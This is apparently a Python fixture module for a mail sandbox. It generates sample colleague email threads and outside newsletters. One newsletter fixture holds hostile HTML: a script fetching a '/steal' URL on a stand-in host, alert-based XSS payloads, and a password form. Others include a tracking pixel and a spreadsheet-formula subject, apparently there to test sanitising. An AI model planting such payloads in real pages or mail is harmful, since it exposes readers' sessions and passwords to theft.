"""What the people of the seeded company write to each other: topics, and who answers whom.

Everything is told relative to the day the sandbox starts. Pure; turns nothing into records.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, time, timedelta

from graphwright_sandbox.graph.chance import chance_of
from graphwright_sandbox.graph.request import GraphContext
from graphwright_sandbox.tenant import Person

# subject, then what is said in turn
_TOPICS: tuple[tuple[str, ...], ...] = (
    (
        "Sheet 7: coastline off by two metres",
        "The new survey puts the breakwater two metres further east than our sheet. Who checks?",
        "I compared it with the 2024 flight. The survey is right, our sheet is old.",
        "Thanks. I will correct it & publish on Thursday.",
    ),
    (
        "Budget for the second half",
        "Please send me your numbers by Friday, even if they are rough.",
        "Mine are in the shared folder, tab \u201cH2\u201d. Travel is the big unknown.",
        "Good enough. We cap travel at last year's figure.",
        "Understood.",
    ),
    (
        "Draft contract with the Harbour Board",
        "Attached is the draft. Section 4 (liability) is where we disagree.",
        "Section 4 is fine if they accept the limit. I would not go higher.",
    ),
    (
        "Who can take the call on Monday?",
        "The customer asks for someone technical at short notice.",
        "I can, if it is before noon my time.",
        "Perfect, I will send the invitation.",
    ),
    (
        "Tile server: slow since the update",
        "p99 went from 40 to 400 ms after yesterday's update. Rolling back now.",
        "Confirmed, it is back to normal. The new index does not fit into memory.",
        "I will write it up and propose a smaller index.",
    ),
    ("Welcome aboard!", "We are glad that you are here. Your laptop is at the front desk."),
    (
        "Photos from the field",
        "The weather held. Three days of perfect soundings \U0001f30a\U0001f5fa\ufe0f",
        "Beautiful. May we use the second one on the web site?",
        "Of course.",
    ),
    (
        "Interview feedback",
        "What did you think of the candidate?",
        "Strong on geodesy, honest about what she does not know. I would say yes.",
    ),
    (
        "Minutes of our meeting",
        "Decided: one projection for all regions, migration in two steps. Open: who pays for it.",
        "Small correction: step one is already paid for.",
    ),
    (
        "Question about leave in December",
        "I would like to take the last two weeks off. Does that collide with anything?",
        "No, go ahead. Please tell the team.",
    ),
)
_LOCAL: dict[str, tuple[tuple[str, ...], ...]] = {
    "de": (
        (
            "Kartenblatt 7 – Rückfrage",
            "Könntest du bitte die Höhenlinien prüfen?",
            "Mach ich, größer als gedacht.",
        ),
    ),
    "hi": (("डेटा की समीक्षा", "कृपया रिपोर्ट देख लीजिए।", "देख लिया, सब ठीक है।"),),
    "ja": (
        ("横浜の測量について", "資料をご確認ください。", "確認しました。ありがとうございます。"),
    ),
    "el": (("Έλεγχος σύμβασης", "Μπορείς να δεις το άρθρο 4;", "Το είδα, είμαστε εντάξει."),),
    "ar": (("مراجعة العقد", "هل يمكنك مراجعة المادة الرابعة؟", "راجعتها، لا مشكلة."),),
    "ru": (("Результаты съёмки", "Посмотри, пожалуйста, таблицу.", "Посмотрел, всё сходится."),),
    "pt": (("Visita ao cliente", "Podemos remarcar para quinta?", "Sim, às dez está ótimo."),),
}
_PER_PERSON = 8


@dataclass(frozen=True)
class Letter:
    """One message; `people` are those it goes to."""

    key: str
    thread: str
    subject: str
    sender: Person
    people: tuple[Person, ...]
    sent: datetime
    html: str
    attachment: str | None = None


def company_letters(context: GraphContext) -> list[Letter]:
    """All letters between colleagues, oldest first."""
    letters = [
        letter
        for number, person in enumerate(context.tenant.people.company)
        for letter in _letters_begun_by(context, person, number)
    ]
    return sorted(letters, key=lambda letter: (letter.sent, letter.key))


def _letters_begun_by(context: GraphContext, person: Person, number: int) -> Iterator[Letter]:
    chance = chance_of("letters", person.id)
    circle = _circle(context, person)
    topics = [*_LOCAL.get(person.preferred_language[:2], ()), *_TOPICS]
    for count in range(_PER_PERSON):
        topic = topics[(count + number * 3) % len(topics)]
        others = chance.sample(circle, min(len(circle), chance.randint(1, 3)))
        # The last answer to a thread comes within three days, so all of it lies in the past.
        day = context.today - timedelta(days=chance.randint(4, 60))
        moment = datetime.combine(day, time(chance.randint(6, 15), chance.randint(0, 59)), UTC)
        thread = f"{person.id} {count}"
        writers = [person, *others]
        for turn, text in enumerate(topic[1:]):
            sender = writers[turn % len(writers)]
            yield Letter(
                f"{thread} {turn}",
                thread,
                topic[0] if turn == 0 else f"RE: {topic[0]}",
                sender,
                tuple(one for one in writers if one is not sender),
                moment,
                _page(text, sender),
                "draft-contract.csv" if "Attached" in text else None,
            )
            moment += timedelta(minutes=chance.randint(7, 900))


def _circle(context: GraphContext, person: Person) -> list[Person]:
    """With whom somebody writes: the department, the manager, the reports."""
    found = [
        other
        for other in context.tenant.people.company
        if other.id != person.id
        and (
            other.department == person.department
            or other.id == person.manager_id
            or other.manager_id == person.id
        )
    ]
    return found or [other for other in context.tenant.people.company if other.id != person.id][:3]


def _page(text: str, sender: Person) -> str:
    escaped = text.replace("&", "&amp;").replace("<", "&lt;")
    return (
        '<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>'
        f'<body><div style="font-family:Aptos,sans-serif"><p>{escaped}</p>'
        f"<p>{sender.given_name}<br>{sender.job_title}</p></div></body></html>"
    )


@dataclass(frozen=True)
class Circular:
    """A message from outside that everybody gets. `days` before today; 0: early this morning."""

    key: str
    name: str
    address: str
    subject: str
    html: str
    days: int
    folder: str = "inbox"
    focused: bool = False


CIRCULARS = (
    Circular(
        "remote-image",
        "Harbour Weekly",
        "news@harbour-weekly.example",
        "Harbour Weekly: what changed on the coast",
        "<html><body><h1>This week</h1>"
        '<img src="https://images.harbour-weekly.example/open.gif?reader=42" width="1" height="1"'
        ' alt=""><p style="background:url(https://images.harbour-weekly.example/paper.png)">Three '
        'ports deepened their channels. <a href="https://harbour-weekly.example/42">Read more</a>'
        "</p></body></html>",
        0,
    ),
    Circular(
        "script",
        "Prize Office",
        "winner@prizes.example",
        "You have won <b>everything</b>",
        "<html><body><script>document.title='hacked';fetch('https://prizes.example/steal')"
        "</script><p onclick=\"alert('clicked')\">Click here, it is free.</p>"
        '<a href="javascript:alert(1)">Claim</a><img src="x" onerror="alert(2)">'
        '<iframe src="https://prizes.example/frame"></iframe>'
        '<form action="https://prizes.example/login"><input name="password"></form>'
        "<style>body{display:none}</style></body></html>",
        1,
    ),
    Circular(
        "four-byte",
        "Map Lovers \U0001f5fa\ufe0f",
        "hello@map-lovers.example",
        "\U0001f30d\U0001f30f\U0001f30e Around the world in 80 maps \U0001d54f",
        "<html><body><p>\U0001f9ed Ancient scripts on old maps: \U00010330\U00010331 and "
        "\U00020bb7\u91ce\u5bb6. Family: \U0001f468\u200d\U0001f469\u200d\U0001f467.</p></body>"
        "</html>",
        2,
    ),
    Circular(
        "plain-formula",
        "Accounts",
        "billing@paper-supplies.example",
        "=SUM(A1:A9) is not a subject",
        "<html><body><p>Your invoice of 12 November is due. +1 for paying early, -1 for late."
        "</p></body></html>",
        9,
        focused=True,
    ),
    Circular(
        "conference",
        "Cartography Forum",
        "programme@carto-forum.example",
        "Call for papers: deadline moved",
        "<html><body><p>The deadline is now the end of the month.</p><ul><li>Projections</li>"
        "<li>Names of places</li></ul></body></html>",
        17,
        focused=True,
    ),
    Circular(
        "junk",
        "Cheap Tiles",
        "offers@cheap-tiles.example",
        "90% off bathroom tiles",
        "<html><body><p>Not the tiles you work with.</p></body></html>",
        5,
        folder="junkemail",
    ),
    Circular(
        "deleted",
        "Canteen",
        "canteen@caterer.example",
        "Menu of last week",
        "<html><body><p>Soup, stew, salad.</p></body></html>",
        8,
        folder="deleteditems",
    ),
)
